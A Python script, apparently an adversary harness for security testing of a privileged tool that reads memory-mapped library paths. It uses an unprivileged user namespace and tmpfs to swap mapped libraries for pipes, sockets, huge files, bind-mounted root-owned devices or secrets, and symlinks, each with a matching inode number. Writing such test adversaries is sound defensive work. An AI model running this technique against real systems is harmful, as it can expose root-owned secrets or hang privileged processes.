"""An attacker that runs as nobody, in its own user and mount namespace, and maps libraries. Then the attacker puts
something else at the path of each library, with the library's inode number.

    lays_files.py FOLDER LIBRARY TARGETS

TARGETS has a device and a file of root under each of the names below. The process prints "ready", or the reason why it
cannot attack here. Until it is killed, the process then calls the libraries' functions, which take page faults.
"""

import ctypes
import os
import shutil
import socket
import sys
import time

CLONE_NEWNS, CLONE_NEWUSER, MS_BIND = 0x20000, 0x10000000, 4096
MOST_TRIES = 20_000
libc = ctypes.CDLL(None, use_errno=True)


def check(result, what):
    if result != 0:
        sys.exit(f"{what}: {os.strerror(ctypes.get_errno())}")


def write(path, text):
    with open(path, "w", encoding="ascii") as file:
        file.write(text)


def enter_namespaces():
    user, group = os.getuid(), os.getgid()
    check(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS), "unshare")
    write("/proc/self/setgroups", "deny")
    write("/proc/self/uid_map", f"0 {user} 1")
    write("/proc/self/gid_map", f"0 {group} 1")


def mount_memory(folder):
    check(libc.mount(b"t", folder.encode(), b"tmpfs", 0, None), "mount")


def bind(source, target):
    write(target, "")
    check(libc.mount(source.encode(), target.encode(), None, MS_BIND, None), "bind")


def make_socket(path):
    # The path of a Unix socket must be short.
    os.chdir(os.path.dirname(path))
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(os.path.basename(path))


def make_huge(path):
    with open(path, "wb") as file:
        file.truncate(200 << 30)


def make(path, inode, how):
    """Creates a file with this inode number. The file system must assign inode numbers in ascending order, as tmpfs
    does.
    """
    for _ in range(MOST_TRIES):
        how(path)
        found = os.lstat(path).st_ino
        if found >= inode:
            return
        if os.path.isdir(path):
            os.rmdir(path)
        else:
            os.unlink(path)


def main():
    folder, library, shared = sys.argv[1:]
    enter_namespaces()
    mount_memory(folder)
    lays = {"pipe": os.mkfifo, "folder": os.mkdir, "socket": make_socket, "huge": make_huge}
    targets = {name: f"{shared}/{name}" for name in ("device", "device_link", "secret", "secret_link")}
    mapped = {}
    for name in [*lays, *sorted(targets, key=lambda name: os.stat(targets[name]).st_ino)]:
        path = f"{folder}/{name}.so"
        # A library gets the inode number of the target that will replace it.
        inode = os.stat(targets[name]).st_ino if name in targets else 0
        make(path, inode, lambda at: shutil.copyfile(library, at))
        mapped[name] = (ctypes.CDLL(path), os.stat(path).st_ino)
    mount_memory(folder)
    for name, how in lays.items():
        make(f"{folder}/{name}.so", mapped[name][1], how)
    for name, target in targets.items():
        if name.endswith("_link"):
            os.symlink(target, f"{folder}/{name}.so")
        else:
            bind(target, f"{folder}/{name}.so")
    print("ready", flush=True)
    while True:
        for loaded, _ in mapped.values():
            loaded.hostile_spin(4)
        time.sleep(0.001)


if __name__ == "__main__":
    main()
